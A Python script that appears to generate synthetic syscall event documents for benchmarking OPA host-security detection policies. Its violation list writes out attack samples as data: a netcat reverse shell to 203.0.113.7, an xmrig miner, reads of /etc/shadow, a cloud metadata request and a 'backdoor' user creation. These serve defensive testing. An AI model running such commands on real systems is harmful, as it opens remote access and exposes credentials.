"""Generate a batch of mixed event documents for benchmarking the policies.

    python benchmarks/policy_input.py --count 1000 --out /tmp/policy_input.json
    .bin/opa bench --data policies --input /tmp/policy_input.json 'data.bpfopa.main.alerts'

The mix follows what a busy host sends (mostly opens, then execs and network calls) and about
one document in twenty violates some rule, so the benchmark measures both the cheap
"nothing matches" path and alert construction. Documents follow docs/event-schema.md.

Every document is distinct, as on a real host (timestamps, thread and process ids, returned
fds differ): OPA memoizes function calls by their arguments, so a batch of a few dozen
repeated documents would measure the cache, not the rules. ``--repeated`` gives the earlier
input (35 distinct documents repeated) to compare with older measurements.
"""

from __future__ import annotations

import argparse
import copy
import json
import random
from collections.abc import Callable
from pathlib import Path
from typing import Any

Doc = dict[str, Any]

_BASE_TIME = "2026-11-28T09:30:00.000000000Z"


def _process(name: str, args: list[str], *, container: bool = False, **extra: Any) -> Doc:
    process: Doc = {
        "pid": 4242,
        "ppid": 4200,
        "tid": 4242,
        "name": name,
        "exe": f"/usr/bin/{name}",
        "args": args,
        "argv0": name,
        "cmdline": " ".join([name, *args]),
        "args_truncated": False,
        "env": ["HOME=/root", "PATH=/usr/bin:/bin"],
        "cwd": "/root",
        "uid": 0,
        "gid": 0,
        "euid": 0,
        "loginuid": 1000,
        "user": "root",
        "tty": 0,
        "start_time": "2026-11-28T09:00:00.000000000Z",
        "cap_effective": [],
        "cgroup": ["0::/system.slice/app.service"],
        "container": {
            "id": "41e5c07cc310",
            "full_id": "41e5c07cc310" + "0" * 52,
            "runtime": "docker",
        }
        if container
        else None,
        "parent": {
            "pid": 4200,
            "ppid": 1,
            "tid": 4200,
            "name": "bash",
            "exe": "/usr/bin/bash",
            "args": [],
            "argv0": "bash",
            "cmdline": "bash",
            "user": "root",
        },
        "ancestors": [
            {
                "pid": 1,
                "name": "systemd",
                "exe": "/usr/lib/systemd/systemd",
                "cmdline": "/sbin/init",
            }
        ],
    }
    process.update(extra)
    return process


def _event(name: str, nr: int, ret: int, params: Doc, **extra: Any) -> Doc:
    event: Doc = {
        "name": name,
        "nr": nr,
        "ts": 123456789012,
        "time": _BASE_TIME,
        "tid": 4242,
        "ret": ret,
        "error": None,
        "params": params,
        "truncated": [],
    }
    event.update(extra)
    return event


def _open(path: str, flags: int, process: Doc) -> Doc:
    params = {"dfd": -100, "filename": path, "flags": flags, "mode": 0}
    event = _event("openat", 257, 3, params, path=path, paths={"filename": path}, flags=[])
    return {"event": event, "process": process}


def _exec(process: Doc) -> Doc:
    params = {"filename": process["exe"], "argv": [process["name"], *process["args"]]}
    return {
        "event": _event(
            "execve", 59, 0, params, path=process["exe"], paths={"filename": process["exe"]}
        ),
        "process": process,
    }


def _connect(address: str, port: int, process: Doc) -> Doc:
    params = {
        "fd": 3,
        "uservaddr": {"family": "AF_INET", "address": address, "port": port},
        "addrlen": 16,
    }
    fd = {"num": 3, "type": "ipv4", "name": f"{address}:{port}"}
    return {"event": _event("connect", 42, 0, params, fd=fd), "process": process}


def _harmless(rng: random.Random) -> Doc:
    kind = rng.random()
    if kind < 0.55:
        path = rng.choice(
            [
                "/usr/lib/x86_64-linux-gnu/libc.so.6",
                "/etc/ld.so.cache",
                "/proc/self/status",
                "/var/lib/app/data.db",
                "/tmp/work.txt",
            ]
        )
        return _open(path, rng.choice([0, 0x80000, 2]), _process("app", []))
    if kind < 0.75:
        return _exec(_process(rng.choice(["ls", "cat", "git", "make"]), ["-l"]))
    if kind < 0.9:
        return _connect(
            rng.choice(["10.0.0.7", "93.184.216.34"]), rng.choice([443, 5432]), _process("app", [])
        )
    name, nr = rng.choice([("close", 3), ("mmap", 9), ("setuid", 105), ("dup2", 33)])
    return {"event": _event(name, nr, 0, {"fd": 3}), "process": _process("app", [])}


_VIOLATIONS: list[Callable[[], Doc]] = [
    lambda: _open("/etc/shadow", 0, _process("cat", ["/etc/shadow"])),
    lambda: _open("/root/.bashrc", 577, _process("nano", ["/root/.bashrc"])),
    lambda: _open("/var/log/auth.log", 513, _process("bash", [])),
    lambda: _exec(_process("nc", ["-e", "/bin/sh", "203.0.113.7", "4444"], container=True)),
    lambda: _exec(_process("xmrig", ["-o", "stratum+tcp://pool.example:3333"])),
    lambda: _exec(
        _process(
            "bash",
            ["-c", "id"],
            parent={"name": "nginx", "exe": "/usr/sbin/nginx", "cmdline": "nginx"},
        )
    ),
    lambda: _connect("169.254.169.254", 80, _process("curl", [], container=True)),
    lambda: _exec(_process("useradd", ["-m", "backdoor"])),
]


def _make_distinct(doc: Doc, index: int) -> Doc:
    """The document as the index-th event of a stream: its own time, ids and fd."""
    doc = copy.deepcopy(doc)
    event, process = doc["event"], doc["process"]
    ns = 17_000 + index * 20_011
    event["ts"] = 123456789012 + ns
    event["time"] = f"2026-11-28T09:30:00.{ns % 1_000_000_000:09d}Z"
    pid = 2000 + index * 37 % 30000
    event["tid"] = process["tid"] = pid
    process["pid"] = pid
    if event["name"] == "openat":
        event["ret"] = 3 + index % 60
    return doc


def generate(
    count: int, seed: int = 1, violation_rate: float = 0.05, *, distinct: bool = True
) -> Doc:
    """A reproducible batch ``{"events": [...]}`` of ``count`` documents.

    ``distinct=False`` repeats the few templates verbatim (the input before distinct
    documents were introduced); the mix of syscalls and violations is the same either way.
    """
    rng = random.Random(seed)
    events = [
        rng.choice(_VIOLATIONS)() if rng.random() < violation_rate else _harmless(rng)
        for _ in range(count)
    ]
    if distinct:
        events = [_make_distinct(doc, i) for i, doc in enumerate(events)]
    return {"events": events}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--count", type=int, default=1000)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--out", type=Path, default=Path("policy_input.json"))
    parser.add_argument(
        "--repeated",
        action="store_true",
        help="repeat 35 template documents verbatim (the older, cache-friendly input)",
    )
    args = parser.parse_args()
    args.out.write_text(json.dumps(generate(args.count, args.seed, distinct=not args.repeated)))
    print(f"wrote {args.count} documents to {args.out}")


if __name__ == "__main__":
    main()
